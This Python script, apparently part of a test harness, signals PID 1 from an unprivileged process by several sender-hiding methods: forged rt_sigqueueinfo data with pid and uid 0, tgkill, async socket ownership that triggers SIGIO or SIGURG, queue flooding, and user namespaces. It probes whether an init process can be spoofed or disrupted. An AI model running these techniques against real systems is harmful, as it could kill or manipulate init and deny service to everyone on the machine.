"""Signals PID 1 in one of the ways that hide the sender.

usage: attack.py HOW SIGNAL...
  kill         by kill(2)
  queue:CODE   by rt_sigqueueinfo(2), with this si_code, pid 0 and uid 0
  tgkill       by tgkill(2)
  owner        PID 1 is made the owner of a socket: input on it raises the signal (F_SETOWN, F_SETSIG, O_ASYNC)
  io           the same without F_SETSIG: SIGIO, whatever SIGNAL is
  urgent       the same with urgent data: SIGURG, whatever SIGNAL is
  overflow     the same as owner, after real-time signals of that kind have filled PID 1's queue
  namespace    by kill(2), from a user namespace that maps no id
  full:CODE    fills the signal queue of its uid first, then as queue:CODE; full:-6 is by tgkill(2)
"""
import ctypes
import fcntl
import os
import select
import signal
import socket
import struct
import sys

from system_calls import RT_SIGQUEUEINFO

F_SETSIG, CLONE_NEWUSER = 10, 0x10000000
libc = ctypes.CDLL(None, use_errno=True)


def call(function, *args):
    if function(*args) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


def queue(pid, number, code):
    # Its pid, its uid and its value are 0, which are behind the code.
    info = struct.pack("=iii", number, 0, code).ljust(128, b"\0")
    call(libc.syscall, RT_SIGQUEUEINFO, pid, number, info)


def fill():
    """Fills the queue of this uid with signals to this process that stay pending."""
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMAX])
    try:
        while True:
            queue(os.getpid(), signal.SIGRTMAX, -1)
    except BlockingIOError:
        pass


def connection():
    listener = socket.create_server(("127.0.0.1", 0))
    sender = socket.create_connection(listener.getsockname())
    return sender, listener.accept()[0]


def raise_by_socket(number, urgent, times=1):
    sender, receiver = connection() if urgent else socket.socketpair()
    fcntl.fcntl(receiver, fcntl.F_SETOWN, 1)
    if number:
        fcntl.fcntl(receiver, F_SETSIG, number)
    if not urgent:
        fcntl.fcntl(receiver, fcntl.F_SETFL, os.O_ASYNC)
    for _ in range(times):
        sender.send(b"x", socket.MSG_OOB if urgent else 0)
        if urgent:
            # Before it has arrived, recv(2) fails with EINVAL.
            select.select([], [], [receiver])
        receiver.recv(1, socket.MSG_OOB if urgent else 0)


def attack(how, code, number):
    if how in ("kill", "namespace"):
        os.kill(1, number)
    elif how == "tgkill" or code == -6:
        call(libc.tgkill, 1, 1, number)
    elif how in ("queue", "full"):
        queue(1, number, code)
    else:
        raise_by_socket(number if how in ("owner", "overflow") else 0, how == "urgent")


with open("/proc/self/status") as status:
    assert "CapEff:\t0000000000000000\n" in status.read(), "an attacker has no capability"
how, _, code = sys.argv[1].partition(":")
if how == "full":
    fill()
if how == "overflow":
    raise_by_socket(signal.SIGRTMIN + 2, False, 100)
if how == "namespace":
    call(libc.unshare, CLONE_NEWUSER)
for number in map(int, sys.argv[2:]):
    try:
        attack(how, int(code or 0), number)
        print(f"attack {number} sent", flush=True)
    except PermissionError:
        print(f"attack {number} refused", flush=True)
print("attack over", flush=True)
sys.stdin.read()
